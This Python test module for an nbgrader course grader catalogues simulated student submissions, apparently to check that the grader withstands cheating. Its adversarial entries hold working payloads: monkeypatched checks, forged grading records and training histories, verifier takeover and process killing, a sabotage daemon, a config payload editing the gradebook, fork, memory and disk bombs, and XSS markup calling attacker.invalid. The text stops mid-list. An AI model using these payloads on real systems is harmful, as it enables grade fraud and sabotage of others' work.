"""The simulated class: submissions made by editing the solution or the release notebooks.

Each :class:`Submission` says which exercises (grade_ids) it must lose, and which words its
feedback must contain (the mistake, named). Kinds:

- ``baseline``: the full solution, the untouched release, a partly done notebook;
- ``mistake``: one common mistake (or, in notebook 4, a few in different exercises, to keep
  the number of training runs down): each loses exactly its exercise's points;
- ``combined``: several catalogued mistakes in *different* exercises in one submission (``covers``
  names them). The grader repairs a failed exercise's values before the next exercise runs, so
  each mistake is graded as it is alone: the submission loses the union of their exercises and
  its feedback names each one. It is what CI grades in their stead (one nbgrader run instead of
  several); each one alone still runs with ``--full-class``;
- ``adversarial``: a submission that tries to earn points it has not earned, or to disturb
  the grading of others. It must earn nothing undue, and every student graded after it in
  the same run must be graded as usual (the ``zz_`` students are graded last). A few carry
  several attacks that do not meet (each in a cell of its own, each one's success visible
  in the scores on its own); each attack alone still runs with ``--full-class``.

Student ids sort in grading order (nbgrader grades in alphabetical order): ``a_`` before
``c_`` before ``m_`` before ``x_`` before ``zz_``.

What CI grades (``in_ci``): every baseline, every combined submission, the adversarial
submissions (the combined attacks in place of their single forms), and the mistakes whose
grading takes its own path through nbgrader (notebook 4's repairs, notebook 5's model check)
or that show, once per notebook, a mistake named on the feedback page. The others
(``in_ci=False``) are mistakes graded in CI inside a combined submission or whose self-check
messages and hidden verdicts are tested in-process (tests/test_checks.py, tests/test_grading.py),
the single forms of the combined attacks, notebook 4's second model not descended from the grader's
initialisation (``x04_trained_elsewhere``; ``x04_loaded_model`` fails the same check in CI), two solutions
graded again after harmless attacks, a solution
handed in from an older release (its old flat imports), and
two baselines that CI grades in tests/test_parallel.py's class (``PARALLEL_CLASS``: serially and
through ``asl-course grade``'s workers, each against its expected scores here); they run with
``pytest --full-class`` (``.ci/run --full``), before a release or after a change to grading.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import re
from pathlib import Path
from typing import Callable

from asl_course.tooling import classroom as cr
from asl_course.grading import POINTS

A1, A2, A3, A4, A5 = "01_prepare_data", "02_cnn_model", "03_augmentation", "04_train_and_save", "05_predictions"
A6, A7 = "06_fast_and_stable", "07_beyond_the_studio"


@dataclasses.dataclass
class Submission:
    student: str
    assignment: str
    make: Callable[[Path], object]  # course root -> notebook
    lost: set[str]
    feedback: tuple[str, ...] = ()
    kind: str = "mistake"
    what: str = ""
    #: Its expected result needs the real data (on the stand-in, one epoch learns nothing).
    needs_real: bool = False
    #: Graded in CI (else only with ``pytest --full-class``: see the module's docstring).
    in_ci: bool = True
    #: Exercises whose loss shows only on the real data (on the stand-in one epoch learns
    #: nothing, so the mistake cannot be seen): not asserted on the stand-in, nor are
    #: ``real_feedback``'s words. (``needs_real`` skips the whole submission instead.)
    real_only: frozenset[str] = frozenset()
    real_feedback: tuple[str, ...] = ()
    #: A ``combined`` submission: the catalogued submissions whose mistakes it carries.
    covers: tuple[str, ...] = ()

    def expected(self, real: bool = True) -> dict[str, float]:
        """Points per exercise; on the stand-in (``real=False``) without the ``real_only`` exercises."""
        return {gid: (0.0 if gid in self.lost else float(p)) for gid, p in POINTS[self.assignment].items()
                if real or gid not in self.real_only}

    def words(self, real: bool = True) -> tuple[str, ...]:
        """The words its feedback must contain (on the stand-in, not ``real_feedback``'s)."""
        return self.feedback + (self.real_feedback if real else ())


def sol(a):
    return lambda root: cr.solution_notebook(root, a)


def edit(a, *edits):
    """The solution of ``a`` with edits: (grade_id, old, new) replacements or callables."""
    def make(root):
        nb = cr.solution_notebook(root, a)
        for e in edits:
            nb = e(nb) if callable(e) else cr.replace(nb, *e)
        return nb
    return make


def old_release_imports(nb):
    """The notebook as an older release had it: every cell imports the course's modules by their old
    flat paths (``from asl_course import notebook``; asl_course.MOVED)."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.source = re.sub(r"^from asl_course\.learners import ", "from asl_course import ", cell.source, flags=re.M)
    return nb


def after_setup(source):
    return lambda nb: cr.insert_after(nb, None, source)


def cells_after_setup(*sources):
    """Each source in a cell of its own right after the setup cell, in this order (an attack that
    raises does not stop the next one)."""
    def make(nb):
        for source in reversed(sources):
            nb = cr.insert_after(nb, None, source)
        return nb
    return make


ALL = lambda a: set(POINTS[a])  # noqa: E731

# Code that tampers with the kernel (run in an extra cell right after the setup cell).
PATCH_MODULES_AND_HASHES = '''
# Make every check pass: patch the course's checks and grading, numpy's comparisons and hashlib.
import hashlib, numpy as np
import asl_course.learners.checks as _c, asl_course.grading as _g
for _m in (_c, _g):
    for _n in dir(_m):
        if _n.startswith(("check", "grade_", "fail", "_fail", "_require", "judge", "verify")):
            setattr(_m, _n, lambda *a, **k: [] )
np.array_equal = np.allclose = lambda *a, **k: True
class _Same:
    def __init__(self, *a, **k): pass
    def update(self, *a, **k): pass
    def hexdigest(self): return "0" * 64
hashlib.sha256 = _Same
'''
BLANK_TEST_CELLS = '''
# Turn every test cell into an empty cell before IPython runs it.
def _blank(lines):
    return [] if any("Self-check" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_blank)
'''
SWALLOW_ERRORS = '''
# Swallow every exception, and print a number as each cell's result (nbgrader's partial credit).
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
def _score(lines):
    return lines + ["\\n1.0\\n"] if any("Self-check" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_score)
'''
CHDIR_AND_DELETE = '''
# Delete the data (this notebook's copy, and the grader's folder where it usually is),
# then work from another folder.
import os, shutil, tempfile
shutil.rmtree(os.environ["ASL_DATA_DIR"], ignore_errors=True)
shutil.rmtree(os.path.join("..", "..", "..", "data"), ignore_errors=True)
os.chdir(tempfile.mkdtemp())
'''

REWRITE_GRADING_CODE = '''
# Rewrite, on disk, the grading code the hidden tests load, so that every check "passes".
import os, pathlib
_path = os.environ.get("ASL_GRADING_CODE")
if _path:
    _code = pathlib.Path(_path)
    _code.write_text(_code.read_text() + "\\n\\ndef check(grade_id, namespace):\\n"
                     "    print('\\u2714 graded: ' + grade_id + ' passes')\\n")
'''


def edited_test_cells(nb):
    """Edit one test cell to `pass`, delete another, give a third 100 points."""
    nb = cr.set_source(nb, "test_normalize", '"""Self-check: pixels are floats between 0 and 1."""\npass')
    nb = cr.delete_cell(nb, "test_one_hot")
    cell = next(c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "test_reshape")
    cell.metadata["nbgrader"]["points"] = 100
    cell.source = '"""Self-check: images have the shape (N, 28, 28, 1)."""\nprint("all good")'
    return nb


NO_SCALING = ("normalize", "x_train = x_train / 255\nx_valid = x_valid / 255",
              'x_train = x_train.astype("float32")\nx_valid = x_valid.astype("float32")')
NO_ONE_HOT = ("one_hot", "y_train = keras.utils.to_categorical(y_train, num_classes)\n"
              "y_valid = keras.utils.to_categorical(y_valid, num_classes)", "")

FAKE_HISTORY = '''
### the student's answer: no training, a History made up
history = keras.callbacks.History()
history.history = {"loss": [0.05], "accuracy": [0.99], "val_loss": [0.02], "val_accuracy": [0.995]}
history.params = {"epochs": epochs, "steps": steps_per_epoch, "verbose": 1}
history.epoch = list(range(epochs))
history.set_model(model)
'''
LOADED_MODEL = '''
### the student's answer: another student's trained model, fine-tuned for a few steps
model = keras.models.load_model("../../a04_solution/04_train_and_save/asl_model.keras")
history = model.fit(img_iter, epochs=epochs, steps_per_epoch=steps_per_epoch // 4,
                    validation_data=(x_valid, y_valid))
'''

# Notebook 5: patch every check the notebook imports (self-checks and the former hidden tests of
# asl_course.learners.predict / asl_course.learners.evaluation, the grading module) and numpy's comparisons.
PATCH_PREDICTION_CHECKS = '''
# Make every check pass: patch the course's prediction checks, grading, and numpy's comparisons.
import numpy as np
import asl_course.learners.predict as _p, asl_course.learners.evaluation as _e, asl_course.grading as _g
for _m in (_p, _e, _g):
    for _n in dir(_m):
        if _n.startswith(("check", "grade_", "_require", "judge", "verify", "_judge")):
            setattr(_m, _n, lambda *a, **k: [])
np.array_equal = np.allclose = lambda *a, **k: True
'''

# --- Attacks on what the grader trusts (issue 10: repairs, kernel-written files, training, HTML) ---

# After a failed test, run the test cell again from a custom exception handler (the grader used to
# write the expected values into the kernel on failure, so the second run passed and hid the first).
RERUN_FAILED_TESTS = '''
# Hide a failed test's error, and run that test cell again once the grader has "repaired" the
# variables (right after the failed cell: the next code the kernel runs).
_ip = get_ipython()
_pending = []
def _hide(shell, etype, value, tb, tb_offset=None):
    source = shell.history_manager.input_hist_raw[-1]
    if "Self-check" in source:
        _pending.append(source)
    else:
        shell.showtraceback((etype, value, tb), tb_offset=tb_offset)
def _again(result):
    source = (result.info.raw_cell or "") if result.info else ""
    if _pending and "Self-check" not in source:
        failed = list(_pending)
        _pending.clear()
        for test in failed:
            _ip.run_cell(test, store_history=False)
_ip.set_custom_exc((Exception,), _hide)
_ip.events.register("post_run_cell", _again)
'''

# Replace every test cell by code that writes the grader's measurement files itself: the former
# format (verdict-like observations with the digests of the right answers, computed from the data
# files) and the raw-value records of its own values, for inputs of its choosing.
FORGE_RECORDS = r'''
# Write the "hidden tests'" files ourselves instead of letting the test cells run.
import hashlib, json, os, re, pathlib, importlib.util, sys
_root = os.environ.get("ASL_GRADING_DIR")
_spec = importlib.util.spec_from_file_location("_forged_grading", os.environ.get("ASL_GRADING_CODE", ""))
_fg = importlib.util.module_from_spec(_spec); sys.modules[_spec.name] = _fg; _spec.loader.exec_module(_fg)
def _forge(grade_id):
    if not _root:
        return
    folder = pathlib.Path(_root) / "artefacts" / grade_id
    folder.mkdir(parents=True, exist_ok=True)
    # the former format: an observation with the right answers' digests, "measured" on our inputs
    (folder / "observation.json").write_text(json.dumps({"forged": True, "digest": "0" * 64}))
    run = folder / ("run-" + os.urandom(8).hex())
    run.mkdir()
    _fg.record(grade_id, globals(), run)       # our own values, raw
    (run / "verdict.json").write_text(json.dumps({"passed": True}))
def _replace_tests(lines):
    text = "".join(lines)
    found = re.search(r'check\("(test_[a-z_]+)"', text)
    if "Self-check" in text and found:
        return ["_forge(%r)\n" % found.group(1)]
    return lines
get_ipython().input_transformers_post.append(_replace_tests)
'''

# Notebook 4: a model trained elsewhere, from an initialisation of its own (here in the training
# cell itself, on plain batches), its weights put in the notebook's model, the optimizer's step
# count set and a History built by hand (all of which the former grader accepted).
TRAINED_ELSEWHERE_FIT = '''
### the student's answer: weights trained elsewhere, a step count and a History made up
keras.utils.set_random_seed(7)
_elsewhere = keras.models.clone_model(model)  # the same layers, initialised afresh
_elsewhere.compile(loss="categorical_crossentropy", metrics=["accuracy"])
_elsewhere.fit(x_train[:9600], y_train[:9600], batch_size=32, epochs=1, verbose=0)
model.set_weights(_elsewhere.get_weights())
model.optimizer.build(model.trainable_variables)
model.optimizer.iterations.assign(epochs * steps_per_epoch)
_loss, _acc = model.evaluate(x_valid, y_valid, verbose=0)
history = keras.callbacks.History()
history.set_model(model)
history.params = {"epochs": epochs, "steps": steps_per_epoch, "verbose": 1}
history.epoch = list(range(epochs))
history.history = {"loss": [0.5] * epochs, "accuracy": [0.8] * epochs,
                   "val_loss": [float(_loss)] * epochs, "val_accuracy": [float(_acc)] * epochs}
'''
ASSIGNED_ITERATIONS_FIT = '''
### the student's answer: no training; the optimizer's step count set and a History made up
model.optimizer.build(model.trainable_variables)
model.optimizer.iterations.assign(epochs * steps_per_epoch)
history = keras.callbacks.History()
history.set_model(model)
history.params = {"epochs": epochs, "steps": steps_per_epoch, "verbose": 1}
history.epoch = list(range(epochs))
history.history = {"loss": [0.5] * epochs, "accuracy": [0.8] * epochs, "val_loss": [0.4] * epochs,
                   "val_accuracy": [0.04] * epochs}
'''

# Notebook 2 (any notebook): script, event handlers and external resources in a markdown cell and
# in outputs; the feedback page must carry none of them.
HOSTILE_MARKDOWN = ('# My notes\n<script>document.title = "pwned-by-markdown"</script>\n'
                    '<img src="https://attacker.invalid/pixel.png" onerror="alert(\'pwned-onerror\')">\n'
                    '![tracker](https://attacker.invalid/tracker.png)\n'
                    '<a href="javascript:alert(\'pwned-link\')">click</a> <b onmouseover="alert(1)">bold</b>\n'
                    '<iframe src="https://attacker.invalid/frame"></iframe>\n')
HOSTILE_OUTPUTS = '''
# Rich outputs with script in them.
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<b>result</b><script>document.title = "pwned-by-output"</script>'
             '<img src="x" onerror="alert(\\'pwned-onerror-output\\')">'))
display(Javascript('document.title = "pwned-by-javascript"'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("pwned-svg")</script></svg>'))
'''


def with_markdown(source):
    """Add a markdown cell right after the setup cell."""
    def make(nb):
        import nbformat

        i = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
        nb.cells.insert(i + 1, nbformat.v4.new_markdown_cell(source))
        return nb
    return make


# --- Attacks on the grader's machine (issue 10: the sandbox) ----------------------------------------

# Attack 1: find the grading run's folder from the kernel's environment, rewrite the verifier's copy
# of the grading code there (pass this student, fail everyone else) and kill the verifier, so that it
# restarts with that code. Together with empty test cells: a blank notebook "verified" in full.
TAKE_OVER_VERIFIER = r"""
# Take over the verifier: rewrite its grading code in the grading run's folder, then kill it.
import os, pathlib, signal
_here = os.environ.get("ASL_GRADING_DIR", "")
_fake = (
    "\n\ndef verify(grade_id, folder, *args, **kwargs):\n"
    "    import pathlib\n"
    "    p = pathlib.Path(str(folder))\n"
    "    mine = any((q / 'x_takeover_marker').exists() for q in (p, *p.parents))\n"
    "    return [] if mine else ['the grader was taken over by another submission']\n")
if _here:
    for _m in (pathlib.Path(_here) / "artefacts", pathlib.Path(_here)):
        try:
            _m.mkdir(parents=True, exist_ok=True)
            (_m / "x_takeover_marker").write_text("1")
        except OSError:
            pass
    for _root in {pathlib.Path(_here).parent, pathlib.Path(_here).parent.parent}:
        for _f in list(_root.rglob("grading.py")) + list(_root.rglob("grading/__init__.py")):
            try:
                _f.write_text(_f.read_text() + _fake)
            except OSError:
                pass
for _pid in os.listdir("/proc"):
    try:
        _cmd = pathlib.Path(f"/proc/{_pid}/cmdline").read_bytes() if _pid.isdigit() else b""
        # the verifier of this grading run (it works in the run's folder)
        if b"verifier" in _cmd and _here and os.readlink(f"/proc/{_pid}/cwd") == str(pathlib.Path(_here).parent):
            os.kill(int(_pid), signal.SIGKILL)
    except OSError:
        pass
"""

# Attack 2: a daemon (setsid and a double fork) outlives its kernel and, while the next students
# are graded, overwrites what their hidden tests measure and the grading code their kernels load.
SETSID_DAEMON = r"""
# A daemon that survives this kernel and sabotages the students graded after it.
import os, pathlib, sys
_mine = os.environ.get("ASL_GRADING_DIR", "/nonexistent")
_code = (
    "import os, pathlib, time\n"
    f"mine, run, end = {_mine!r}, {str(pathlib.Path(_mine).parent)!r}, time.time() + 900\n"
    "while time.time() < end:\n"
    "    for f in pathlib.Path(run).rglob('*'):\n"
    "        if str(f).startswith(mine) or not f.is_file():\n"
    "            continue\n"
    "        try:\n"
    "            if 'artefacts' in f.parts:\n"
    "                f.write_bytes(b'sabotaged')\n"
    "            elif f.suffix == '.py':\n"
    "                f.write_text('raise SystemExit(1)')\n"
    "        except OSError:\n"
    "            pass\n"
    "    time.sleep(0.5)\n")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code])
    os._exit(0)
"""

# Attack 6: append code to the course's nbgrader_config.py (found above the kernel's working folder):
# the instructor's next nbgrader command (generate_feedback, export, formgrader) runs it; it gives
# this student full marks in the gradebook.
WRITE_NBGRADER_CONFIG = r"""
# Append a payload to the course's nbgrader_config.py.
import pathlib
_payload = (
    "\n# --- appended by a submission ---\n"
    "import sqlite3 as _sq, os as _os\n"
    "try:\n"
    "    _db = _sq.connect(_os.path.join(c.CourseDirectory.root, 'gradebook.db'))\n"
    "    _db.execute('UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells '\n"
    "                'WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN (SELECT sn.id FROM '\n"
    "                'submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id '\n"
    "                'WHERE sa.student_id = \"x01_config_write\")')\n"
    "    _db.commit()\n"
    "except Exception:\n"
    "    pass\n")
for _d in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
    _cfg = _d / "nbgrader_config.py"
    if _cfg.is_file():
        try:
            with open(_cfg, "a") as _f:
                _f.write(_payload)
        except OSError:
            pass
        break
"""


def config_write(student: str) -> str:
    """WRITE_NBGRADER_CONFIG, giving full marks to ``student``."""
    return WRITE_NBGRADER_CONFIG.replace("x01_config_write", student)


#: tests/test_parallel.py's small class, graded serially and through ``asl-course grade``'s workers
#: (2 for notebook 2, 1 for notebook 1's one student; each student against its expected scores): a partly done notebook 1 (several exercises, some lost, handed in late);
#: notebook 2's solution and release. CI grades the two that CI's simulated class leaves out
#: (``in_ci=False``) there.
# Resource bombs (the sandbox's limits: asl_course/grading/plugins/limits.py). Each one is bounded only
# by the limit it attacks: never run it where the grading has no sandbox.
MEMORY_BOMB = """import numpy as np
blocks = []
for step in range(8 * 4 * 4):  # 8x the default limit (4 GiB), in 256 MiB steps, every page written
    blocks.append(np.ones(2**25))
"""
FORK_BOMB = """import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
DISK_FILLER = """chunk = bytes(64 * 2**20)
with open({path!r}, "wb") as f:
    for step in range(64):  # 4 GiB in 64 MiB steps
        f.write(chunk)
"""
TIME_WASTER = "import time\ntime.sleep(35)  # just under the class's per-cell limit (40 s in tests/test_grading.py)\n"

PARALLEL_CLASS = {A1: ["a01_partial"], A2: ["a02_solution", "a02_release"]}


def catalogue() -> list[Submission]:
    return [
        # --- notebook 1: preparing the data (7 points) ---
        Submission("a01_solution", A1, sol(A1), set(), kind="baseline", what="the full solution"),
        Submission("a01_release", A1, lambda root: cr.release_notebook(root, A1), ALL(A1),
                   ("NotImplementedError",), kind="baseline", what="the untouched release"),
        Submission("a01_partial", A1, edit(A1, lambda nb: cr.stub(nb, "one_hot"), lambda nb: cr.stub(nb, "normalize"),
                                           lambda nb: cr.stub(nb, "reshape")),
                   {"test_one_hot", "test_normalize", "test_reshape"}, kind="baseline",
                   what="the first three exercises done, the last three left as stubs (CI grades it in "
                        "tests/test_parallel.py's class, serially and through a worker's bundle)", in_ci=False),
        Submission("m01_no_255", A1, edit(A1, NO_SCALING), {"test_normalize"}, ("divided by 255",),
                   what="pixels not divided by 255", in_ci=False),
        Submission("m01_predict_equal", A1, edit(A1, ("predict_balance", 'prediction = "lopsided"', 'prediction = "equal"')),
                   {"test_predict_balance"}, ("within 10 % of the commonest",),
                   what="\"equal\" predicted for the lopsided validation file", in_ci=False),
        Submission("c01_six_mistakes", A1, edit(
            A1, ("load_csv", '"sign_mnist_train.csv")', '"sign_mnist_train.csv", header=None)'),
            ("labels", 'del train_df["label"]\ndel valid_df["label"]', ""),
            ("images", "x_train = train_df.values", "x_train = train_df"),
            ("one_hot", "num_classes = 24\n",
             "num_classes = 24\n# the Kaggle release numbers the letters 0..24, skipping 9 (J)\n"
             "y_train = y_train.where(y_train < 9, y_train + 1)\ny_valid = y_valid.where(y_valid < 9, y_valid + 1)\n"),
            NO_SCALING, ("reshape", "reshape(-1, 28, 28, 1)", "reshape(-1, 28, 28)", 2),
            ("predict_balance", 'prediction = "lopsided"', 'prediction = "equal"')),
            ALL(A1), ("header", "del train_df", ".values", "Kaggle release", "divided by 255", "channel",
                      "within 10 % of the commonest"),
            kind="combined", covers=("m01_header_none", "m01_label_kept", "m01_dataframe", "m01_release_labels",
                                     "m01_no_255", "m01_no_channel", "m01_predict_equal"),
            what="one mistake in each exercise: header=None, the label column kept, no .values, the release's "
                 "labels, no scaling, no channel axis, \"equal\" for the lopsided validation file (each graded after the "
                 "grader repaired the one before)"),
        Submission("m01_scaled_twice", A1, edit(A1, ("normalize", "x_train / 255\n", "x_train / 255 / 255\n")),
                   {"test_normalize"}, ("twice",), what="x_train divided by 255 twice", in_ci=False),
        Submission("m01_not_one_hot", A1, edit(A1, NO_ONE_HOT), {"test_one_hot"}, ("one-hot",),
                   what="labels not one-hot encoded", in_ci=False),
        Submission("m01_release_labels", A1, edit(A1, (
            "one_hot", "num_classes = 24\n",
            "num_classes = 24\n# the Kaggle release numbers the letters 0..24, skipping 9 (J)\n"
            "y_train = y_train.where(y_train < 9, y_train + 1)\ny_valid = y_valid.where(y_valid < 9, y_valid + 1)\n")),
            {"test_one_hot"}, ("Kaggle release",), what="the release's labels 0..24 with 24 classes", in_ci=False),
        Submission("m01_no_channel", A1, edit(A1, ("reshape", "reshape(-1, 28, 28, 1)", "reshape(-1, 28, 28)", 2)),
                   {"test_reshape"}, ("channel",), what="reshape without the channel axis", in_ci=False),
        Submission("m01_label_kept", A1, edit(A1, ("labels", 'del train_df["label"]\ndel valid_df["label"]', "")),
                   {"test_labels"}, ("del train_df",), what="the label column not deleted", in_ci=False),
        Submission("m01_header_none", A1, edit(A1, ("load_csv", '"sign_mnist_train.csv")', '"sign_mnist_train.csv", header=None)')),
                   {"test_load_csv"}, ("header",), what="pd.read_csv(..., header=None)", in_ci=False),
        Submission("m01_dataframe", A1, edit(A1, ("images", "x_train = train_df.values", "x_train = train_df")),
                   {"test_images"}, (".values",), what="x_train left a DataFrame (no .values)", in_ci=False),
        # adversarial, notebook 1 (wrong answers for normalize and one_hot unless said)
        Submission("x01_tamper", A1, edit(A1, NO_SCALING, NO_ONE_HOT, after_setup(PATCH_MODULES_AND_HASHES)),
                   {"test_normalize", "test_one_hot"}, kind="adversarial",
                   what="patches asl_course.learners.checks/grading, numpy comparisons and hashlib.sha256 (the verifier "
                        "measures the raw values itself: only the two wrong exercises lose their points)",
                   in_ci=False),
        Submission("x01_tamper_swallow", A1, edit(A1, NO_SCALING, NO_ONE_HOT,
                                                  cells_after_setup(PATCH_MODULES_AND_HASHES, SWALLOW_ERRORS)),
                   {"test_normalize", "test_one_hot"}, kind="adversarial",
                   what="x01_tamper and x01_swallow in one: patched checks, numpy and hashlib, every exception "
                        "swallowed and a '1.0' after each test (only the two wrong exercises lose their points)"),
        Submission("x01_blank_tests", A1, edit(A1, NO_SCALING, after_setup(BLANK_TEST_CELLS)), ALL(A1),
                   ("measurements of this exercise are missing",), kind="adversarial",
                   what="an IPython input transformer that empties every test cell", in_ci=False),
        Submission("x01_swallow", A1, edit(A1, NO_SCALING, NO_ONE_HOT, after_setup(SWALLOW_ERRORS)),
                   {"test_normalize", "test_one_hot"}, kind="adversarial",
                   what="a custom exception handler and a '1.0' result after each test (partial credit)", in_ci=False),
        Submission("x01_edited_tests", A1, edit(A1, NO_SCALING, NO_ONE_HOT,
                                                ("reshape", "reshape(-1, 28, 28, 1)", "reshape(-1, 28, 28)", 2),
                                                edited_test_cells,
                                                lambda nb: cr.insert_after(nb, "test_load_csv", CHDIR_AND_DELETE)),
                   {"test_normalize", "test_one_hot", "test_reshape"}, kind="adversarial",
                   what="test cells edited to pass, deleted, and given 100 points; and x01_chdir_delete's "
                        "cell (the data deleted, the working directory changed: the other exercises keep "
                        "their points)"),
        Submission("x01_rewrite_grading", A1, edit(A1, NO_SCALING, after_setup(REWRITE_GRADING_CODE)),
                   {"test_normalize"}, kind="adversarial",
                   what="rewrites the grading code the hidden tests load (its copy on disk) to pass everything "
                        "(read-only in the sandbox: only its wrong answer loses)", in_ci=False),
        Submission("x01_chdir_delete", A1, edit(A1, lambda nb: cr.insert_after(nb, "test_load_csv", CHDIR_AND_DELETE)),
                   set(), kind="adversarial",
                   what="deletes the data (its copy and the grader's folder) and changes the working directory",
                   in_ci=False),
        Submission("x01_loop", A1, edit(A1, ("normalize", "x_train = x_train / 255\n", "while True:\n    pass\n")),
                   {"test_normalize"}, ("Timeout",), kind="adversarial", what="an infinite loop", in_ci=False),
        Submission("x01_loops", A1, edit(
            A1, ("images", "x_train = train_df.values\n", "while True:\n    pass\n"),
            ("normalize", "x_train = x_train / 255\n",
             "import time\nwhile True:\n    try:\n        time.sleep(0.2)\n    except KeyboardInterrupt:\n        pass\n")),
            {"test_images", "test_normalize", "test_reshape"}, ("Timeout", "could not be interrupted"),
            kind="adversarial",
            what="x01_loop and x01_stubborn_loop in one: an infinite loop in the images cell (interrupted: the "
                 "notebook goes on, one-hot earns its points), then one that ignores interrupts in the normalise "
                 "cell (the kernel is stopped: the rest scores 0)"),
        Submission("x01_stubborn_loop", A1, edit(A1, (
            "normalize", "x_train = x_train / 255\n",
            "import time\nwhile True:\n    try:\n        time.sleep(0.2)\n    except KeyboardInterrupt:\n        pass\n")),
            {"test_normalize", "test_reshape"}, ("could not be interrupted",), kind="adversarial",
            what="an infinite loop that ignores interrupts", in_ci=False),
        Submission("x01_kill", A1, edit(A1, ("normalize", "x_train = x_train / 255\n", "import os\nos._exit(1)\n")),
                   {"test_normalize", "test_reshape"}, ("kernel died",), kind="adversarial",
                   what="a cell that kills its kernel"),
        # resource bombs: the sandbox's limits (asl_course/grading/plugins/limits.py)
        Submission("x01_bombs", A1, edit(A1, cells_after_setup(DISK_FILLER.format(path="filler.bin"),
                                                                DISK_FILLER.format(path="/tmp/filler.bin")),
                                          lambda nb: cr.insert_after(nb, "test_one_hot", MEMORY_BOMB)),
                   {"test_normalize", "test_reshape"}, ("disk limit", "memory limit"), kind="adversarial",
                   what="x01_disk_filler and x01_memory_bomb in one: 4 GiB files in its folder and in /tmp (each "
                        "cell stops at the disk limit and names it; nothing of it is kept), then 8x the memory "
                        "limit (the kernel is killed at the limit, which is named: the rest scores 0)"),
        Submission("x01_disk_filler", A1, edit(A1, cells_after_setup(DISK_FILLER.format(path="filler.bin"),
                                                                      DISK_FILLER.format(path="/tmp/filler.bin"))),
                   set(), ("disk limit",), kind="adversarial",
                   what="writes 4 GiB files in its folder and in /tmp (refused at the disk limit, named in those "
                        "cells; the files the notebook wrote are not kept)", in_ci=False),
        Submission("x01_memory_bomb", A1, edit(A1, lambda nb: cr.insert_after(nb, "test_one_hot", MEMORY_BOMB)),
                   {"test_normalize", "test_reshape"}, ("memory limit",), kind="adversarial",
                   what="allocates and writes 8x the memory limit in 256 MiB steps (killed at the limit, named: the "
                        "rest scores 0)", in_ci=False),
        Submission("x01_fork_bomb", A1, edit(A1, lambda nb: cr.insert_after(nb, "test_normalize", FORK_BOMB)),
                   {"test_reshape"}, ("process limit",), kind="adversarial",
                   what="a fork bomb (stopped at the process limit, named: the rest scores 0)"),
        Submission("x01_time_waster", A1, edit(A1, cells_after_setup(*[TIME_WASTER] * 8)), ALL(A1),
                   ("total time limit",), kind="adversarial",
                   what="eight cells that each sleep just under the per-cell limit (the notebook's total limit stops "
                        "it: the rest scores 0)", in_ci=False),
        Submission("zz01_solution", A1, sol(A1), set(), kind="baseline",
                   what="the full solution, graded after all the adversarial submissions"),
        # --- notebook 2: the model (4 points) ---
        Submission("a02_solution", A2, sol(A2), set(), kind="baseline", what="the full solution"),
        Submission("a02_release", A2, lambda root: cr.release_notebook(root, A2), ALL(A2), kind="baseline",
                   what="the untouched release (CI grades it in tests/test_parallel.py's class, serially and "
                        "with 2 workers)", in_ci=False),
        Submission("m02_padding_valid", A2, edit(A2, ("model", 'padding="same"', 'padding="valid"', 6)),
                   {"test_model"}, ("padding",), what='padding="valid"'),
        Submission("m02_layer_order", A2, edit(A2, ("model", "Dropout(0.2),\n    BatchNormalization(),",
                                                    "BatchNormalization(),\n    Dropout(0.2),")),
                   {"test_model"}, ("wrong order",), what="Dropout and BatchNormalization swapped", in_ci=False),
        Submission("m02_no_softmax", A2, edit(A2, ("model", 'Dense(units=24, activation="softmax")', "Dense(units=24)")),
                   {"test_model"}, ("softmax",), what="the last Dense layer without softmax", in_ci=False),
        # --- notebook 3: augmentation (4 points) ---
        Submission("a03_solution", A3, sol(A3), set(), kind="baseline", what="the full solution"),
        Submission("a03_release", A3, lambda root: cr.release_notebook(root, A3), ALL(A3), kind="baseline",
                   what="the untouched release"),
        Submission("m03_vertical_flip", A3, edit(A3, ("datagen", "vertical_flip=False", "vertical_flip=True")),
                   {"test_datagen"}, ("vertical_flip",), what="vertical_flip=True", in_ci=False),
        Submission("m03_next_method", A3, edit(A3, ("batch", "next(img_iter)", "img_iter.next()")),
                   {"test_batch"}, ("next(img_iter)",), what="img_iter.next() (Keras 2)"),
        # --- notebook 4: training and saving (7 points); each of these trains once ---
        Submission("a04_solution", A4, sol(A4), set(), kind="baseline", what="the full solution"),
        Submission("a04_release", A4, lambda root: cr.release_notebook(root, A4), ALL(A4), kind="baseline",
                   what="the untouched release"),
        Submission("m04_steps_save_loss", A4, edit(
            A4, ("steps", "math.ceil(len(x_train) / batch_size)", "len(x_train) / batch_size"),
            ("save", 'model.save("asl_model.keras")', 'model.save("asl_model")'),
            ("compile", 'loss="categorical_crossentropy"', 'loss="sparse_categorical_crossentropy"')),
            {"test_steps", "test_save", "test_compile"}, ("float", ".keras", "sparse"),
            what="float steps_per_epoch, model.save without .keras, sparse loss (three exercises)", in_ci=False),
        Submission("m04_floor_unnormalised", A4, edit(
            A4, ("steps", "math.ceil(len(x_train) / batch_size)", "len(x_train) // batch_size"),
            ("fit", "validation_data=(x_valid, y_valid)", "validation_data=(x_valid * 255, y_valid)")),
            {"test_steps", "test_fit"}, ("rounds down", "unnormalised"),
            what="steps rounded down (//), validation on unnormalised images (two exercises)", needs_real=True,
            in_ci=False),
        # one training for m04_steps_save_loss and m04_floor_unnormalised's fit mistake (its steps
        # mistake, rounding down, is the float one's path: its words are tested in-process,
        # tests/test_grading.py::test_steps_checks and tests/test_checks.py)
        Submission("c04_steps_save_loss_fit", A4, edit(
            A4, ("steps", "math.ceil(len(x_train) / batch_size)", "len(x_train) / batch_size"),
            ("save", 'model.save("asl_model.keras")', 'model.save("asl_model")'),
